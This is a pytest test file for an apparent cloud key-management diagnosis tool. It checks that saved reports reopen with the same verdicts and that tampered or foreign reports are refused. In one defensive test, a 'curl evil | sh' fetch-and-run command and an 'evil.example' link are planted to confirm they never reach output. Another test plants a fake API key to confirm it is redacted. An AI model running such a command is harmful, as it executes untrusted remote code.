"""Reports there and back: the same verdicts come back, and a stranger's file brings nothing but text."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from benchmarks import causes
from ekm_core import VERSION, catalogue, reopen, report, vendor
from ekm_core.diagnose import Setup, diagnose
from ekm_core.model import Diagnosis, Verdict

SCENARIOS = {item.name: item for item in causes.load()}
NAMES = ["aws/trust-external-id-personal", "gcp/kms-principal-other-subject", "azure/rbac-role-not-assigned"]
FORMS = [report.to_json, report.to_markdown]


def judged(name: str, *, evidence: bool = True) -> Diagnosis:
    scenario = next(item for key, item in SCENARIOS.items() if key.startswith(name))
    return diagnose(scenario.text, setup=Setup(scenario.configuration, scenario.evidence if evidence else ()))


def verdicts(diagnosis: Diagnosis) -> list[tuple[str, str, Verdict]]:
    return [
        (item.match.error.id, cause.cause.id, cause.ruling.verdict)
        for item in diagnosis.errors
        for cause in item.causes
    ]


def a_report() -> dict[str, Any]:
    document: dict[str, Any] = json.loads(report.to_json(judged(NAMES[0])))
    return document


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", NAMES)
def test_the_same_result_comes_back(name, form):
    before = judged(name)
    after = reopen.read(form(before))
    assert verdicts(after) == verdicts(before)
    assert after.next_step == before.next_step
    assert [(item.link, item.state) for item in after.chain] == [(item.link, item.state) for item in before.chain]
    changes = [cause.ruling.changes for item in after.errors for cause in item.causes]
    assert any(changes) is not name.startswith("azure"), "the customer's own documents come back, corrected"
    assert reopen.compare(before, after) == ()


@pytest.mark.parametrize("form", FORMS)
def test_every_known_error_comes_back(form):
    for error in catalogue.errors().values():
        before = diagnose(error.samples[0].text)
        assert verdicts(reopen.read(form(before))) == verdicts(before), error.id


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=300), st.sampled_from(FORMS))
def test_the_report_of_any_text_can_be_opened(text, form):
    assert reopen.read(form(diagnose(text))).errors == ()


def test_a_report_in_the_midst_of_a_ticket_is_opened() -> None:
    known = SCENARIOS["aws/trust-external-id-personal"].text
    fake = f"## {report.COPY_HEADING}\n\n```json\n"
    for text in (known, f"{fake}{known}", f"{fake}{{}}\n```\n{known}"):
        found = diagnose(text)
        ticket = f"Hello,\n\n{report.to_markdown(found)}\n\nThank you,\nDan\n"
        assert verdicts(reopen.read(ticket)) == verdicts(found) != []


def test_windows_line_ends_and_a_byte_order_mark_do_no_harm():
    text = report.to_markdown(judged(NAMES[0]))
    assert reopen.read("\ufeff" + text.replace("\n", "\r\n")).errors


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"schema": 2}, "newer version"),
        ({"version": "99.0.0"}, "newer version (99.0.0"),
        ({"schema": "1"}, "damaged or changed"),
        ({"schema": True}, "damaged or changed"),
        ({"matches": {}}, "damaged or changed"),
        ({"matches": [{"id": "aws-of-tomorrow"}]}, "does not know"),
        ({"chain": [{"link": "elsewhere", "state": "proven", "because": ""}]}, "damaged or changed"),
        ({"text": 7}, "damaged or changed"),
        ({"redactions": {"key": -1}}, "damaged or changed"),
    ],
)
def test_what_is_newer_or_tampered_with_is_refused_with_a_sentence(change, words):
    with pytest.raises(reopen.ReportError, match=words.replace("(", r"\(")):
        reopen.read(json.dumps({**a_report(), **change}))


@pytest.mark.parametrize("foreign", ["", "hello", "[]", "{}", '{"a": ', "# Report\n\ntext", "\x00", "{" * 5000])
def test_a_foreign_file_is_refused_with_a_sentence(foreign):
    with pytest.raises(reopen.ReportError, match=r"\.$"):
        reopen.read(foreign)


def test_a_report_of_this_version_names_it():
    assert a_report()["version"] == VERSION


def test_titles_commands_and_links_never_come_from_the_file():
    document = a_report()
    match = document["matches"][0]
    match["title"] = "evil title"
    match["references"] = [{"title": "evil", "url": "https://evil.example", "read": None}]
    document["next_step"] = "run evil"
    for cause in match["causes"]:
        cause["title"] = "evil cause"
        cause["fix"] = {"summary": "evil", "cli": [{"title": "evil", "language": "bash", "text": "curl evil | sh"}]}
    opened = reopen.read(json.dumps(document))
    drawn = report.to_markdown(opened) + reopen.reply(opened, "https://support.example")
    assert "evil" not in drawn
    assert verdicts(opened) == verdicts(judged(NAMES[0]))


def test_a_secret_that_somebody_wrote_into_a_report_is_removed():
    document = a_report()
    secret = "sk-" + "proj-Zk3vQ9rT7wX1yB5nM8cL2dF6gH4jK0pS"
    document["matches"][0]["causes"][0]["because"] = f"Use {secret}"
    assert secret not in report.to_markdown(reopen.read(json.dumps(document)))


def paths(value: Any, path: tuple[Any, ...] = ()) -> Any:
    yield path
    parts = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, part in parts:
        yield from paths(part, (*path, key))


def put(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    copy = dict(value) if isinstance(value, dict) else list(value)
    copy[path[0]] = put(value[path[0]], path[1:], new)
    return copy


REPORT = a_report()
PATHS = list(paths(REPORT))
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) | st.just("\ud800"),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)


@settings(deadline=None, max_examples=150)
@given(st.sampled_from(PATHS), JSON)
def test_a_report_with_any_part_changed_is_opened_or_refused(path, new):
    try:
        opened = reopen.read(json.dumps(put(REPORT, path, new)))
    except reopen.ReportError:
        return
    report.to_markdown(opened)
    reopen.reply(opened)


def without(value: Any, path: tuple[Any, ...]) -> Any:
    copy = dict(value) if isinstance(value, dict) else list(value)
    if len(path) == 1:
        del copy[path[0]]
    else:
        copy[path[0]] = without(value[path[0]], path[1:])
    return copy


def test_a_report_with_any_part_taken_out_is_opened_or_refused():
    rebuilt = {"look", "fix", "missing"}  # from the catalogue: not read at all
    for path in (path for path in PATHS[1:] if not rebuilt.intersection(path)):
        try:
            opened = reopen.read(json.dumps(without(REPORT, path)))
        except reopen.ReportError:
            continue
        report.to_markdown(opened)
        reopen.reply(opened)


def test_before_and_after_say_what_changed():
    differences = reopen.compare(judged(NAMES[0], evidence=False), judged(NAMES[0]))
    assert ("Cannot tell yet", "Confirmed") in {(item.before, item.after) for item in differences}
    gone = reopen.compare(judged(NAMES[0]), diagnose("all is well"))
    assert gone[0].what.startswith("The error “")
    assert (gone[0].before, gone[0].after) == ("there", "not there")


def test_the_reply_says_first_things_first_and_links():
    text = reopen.reply(reopen.read(report.to_json(judged(NAMES[0]))), "https://support.example/ekm")
    assert text.index("What to do first") < text.index("Confirmed:") < text.index("Ruled out:") < text.index("Links")
    assert "https://support.example/ekm/errors?error=aws-sts-assume-role-denied" in text
    assert "https://help.openai.com/en/articles/20000955" in text


DENIED = f"User: {vendor.AWS_SESSION} is not authorized to perform: sts:AssumeRole on resource: {{}}"


@pytest.mark.parametrize("name", ["other", "role-missing", "assume", "trust"])
def test_a_role_whose_name_is_a_part_of_our_ids_does_not_spoil_the_report(name):
    customers = diagnose(
        DENIED.format("arn:aws:iam::482615937044:role/ekm"), {"role_arn": f"arn:aws:iam::482615937044:role/{name}"}
    )
    for written in (report.to_json(customers), report.to_markdown(customers)):
        opened = reopen.read(written)
        assert [item.cause.id for item in opened.errors[0].causes] == [
            item.cause.id for item in customers.errors[0].causes
        ]


def test_the_reply_explains_our_names_only_where_it_has_one():
    said = "stand for your own values"
    ours = "arn:aws:iam::482615937044:role/acme-ekm"
    other = diagnose(DENIED.format(ours), {"role_arn": ours.replace("acme", "other")})
    assert said in reopen.reply(reopen.read(report.to_json(other)))
    assert said not in reopen.reply(reopen.read(report.to_json(diagnose(DENIED.format(ours)))))


def test_the_reply_to_an_unknown_text_names_no_cause():
    text = reopen.reply(diagnose("the printer is on fire"))
    assert "Confirmed" not in text
    assert "Copy the whole message" in text
